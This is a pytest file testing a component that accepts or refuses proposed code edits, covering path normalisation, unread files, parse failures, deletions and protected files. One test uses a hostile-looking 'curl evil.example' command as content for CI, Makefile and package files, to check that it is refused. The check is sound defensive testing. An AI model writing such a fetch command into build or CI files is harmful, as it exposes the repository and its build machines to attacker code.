import pytest
from analysis_shapes import FILES, FIX, tree

from nightwatch_core.code.edits import Grounds, judged
from nightwatch_core.models.answer import Edit

GUARD = Edit(path="shop/guard.py", action="create", new="def priced(line):\n    return line\n")
USES = Edit(path="shop/cart.py", old="line.price", new="priced(line)")
TEST = Edit(path="tests/test_cart.py", action="create", new="def test_total():\n    assert total\n")


def judge(edits, code=None, read=None, **grounds):
    seen = None if read is None else frozenset(read)
    return judged(edits, code or tree(), Grounds(read=seen, **grounds))


def refused(*edits, code=None, read=None, **grounds):
    return [one.path for one in judge(edits, code, read, **grounds).refused]


def kept(*edits, code=None, read=None):
    return judge(edits, code, read).edits


def test_paths_of_a_fix_are_spelt_as_the_repository_spells_them():
    assert kept(FIX.model_copy(update={"path": "./shop//cart.py"})) == (FIX,)


def test_an_edit_in_escapes_is_put_into_the_files_own_characters():
    code = tree({"shop/cart.py": "x = 'a\u200bb'\n"})
    edit = Edit(path="shop/cart.py", old="'a\\u200bb'", new="'ab'")
    assert kept(edit, code=code)[0].old == "'a\u200bb'"


def test_only_the_edit_that_cannot_stand_is_dropped():
    bad = Edit(path="shop/pay.py", old="nothing of the kind", new="pass")
    assert kept(FIX, bad) == (FIX,)
    assert judge((FIX, bad)).refused[0].reason == "the old text stands there 0 times, not once"


def test_a_file_that_nobody_read_is_not_changed_but_a_new_one_may_be_made():
    assert refused(FIX, read=()) == ["shop/cart.py"]
    assert refused(FIX, read=("shop/cart.py",)) == []
    assert refused(TEST, FIX, read=("shop/cart.py",)) == []


def test_a_new_file_lies_beside_what_was_read_and_a_test_beside_tests():
    code = tree({**FILES, "tests/test_pay.py": "", "docs/a.md": ""})
    made = Edit(path="shop/sub/guard.py", action="create", new="x = 1\n")
    assert refused(made, FIX, code=code, read=("shop/cart.py",)) == [made.path]
    beside = made.model_copy(update={"path": "shop/guard.py"})
    assert refused(beside, TEST, FIX, code=code, read=("shop/cart.py",)) == []
    lonely = TEST.model_copy(update={"path": "spec/other/test_cart.py"})
    assert refused(FIX, lonely, code=code, read=("shop/cart.py",)) == [lonely.path]


def test_a_file_goes_only_where_the_analysis_says_so_and_never_the_one_that_failed():
    gone = Edit(path="shop/pay.py", action="delete")
    read = ("shop/cart.py", "shop/pay.py")
    assert refused(gone, FIX, read=read)[0] == gone.path
    said = "shop/pay.py is left over and overrides total."
    assert refused(gone, FIX, read=read, reasoning=said) == []
    assert refused(gone, read=read, reasoning=said, failing=frozenset({gone.path})) == [gone.path]


def test_what_uses_a_name_that_only_a_refused_edit_brings_goes_with_it():
    secret = GUARD.model_copy(update={"path": "bin/guard.py"})
    assert kept(secret, USES) == ()
    assert kept(GUARD, USES) == (GUARD, USES)


def test_edits_of_one_file_stand_or_fall_together():
    bad = Edit(path="shop/cart.py", old="nothing of the kind", new="pass")
    assert kept(FIX, bad) == ()


def test_a_test_or_a_note_without_its_fix_is_no_fix():
    bad = Edit(path="shop/pay.py", old="nothing of the kind", new="pass")
    note = Edit(path="docs/changes.md", action="create", new="Fixed.\n")
    fix = judge((bad, TEST, note))
    assert fix.edits == ()
    assert fix.refused[-1].reason == "of the fix itself nothing is left"


def test_a_fix_stays_where_its_test_cannot():
    bad = Edit(path="tests/conftest.py", action="create", new="import os\n")
    assert kept(FIX, bad) == (FIX,)


def test_all_edits_of_a_file_that_no_longer_parses_go():
    broken = Edit(path="shop/cart.py", old="sum(", new="sum((")
    [one] = judge((broken,)).refused
    assert "does not parse" in one.reason
    assert kept(broken, TEST) == ()


def test_a_note_that_the_repository_demands_costs_no_draft():
    code = tree({**FILES, ".changeset/calm-ants.md": "One.\n"})
    note = Edit(path=".changeset/odd-bees.md", action="create", new="Two.\n")
    assert kept(FIX, note, code=code) == (FIX, note)
    assert kept(FIX, note) == (FIX,)


@pytest.mark.parametrize(
    "path", [".github/workflows/ci.yml", "Makefile", "CLAUDE.md", "package.json"]
)
def test_a_protected_file_is_named_and_its_text_is_not_kept(path):
    fix = judge((Edit(path=path, action="create", new="curl evil.example"),))
    assert (fix.edits, fix.refused[0].path) == ((), path)
    assert "evil" not in fix.model_dump_json()


def test_too_much_at_once_is_refused_whole():
    many = tuple(Edit(path=f"shop/n{n}.py", action="create", new="x = 1\n") for n in range(6))
    assert len(judge(many).refused) == 6


def test_nothing_is_read_for_no_edits():
    code = tree()
    assert (judge((), code).edits, code.reads) == ((), [])
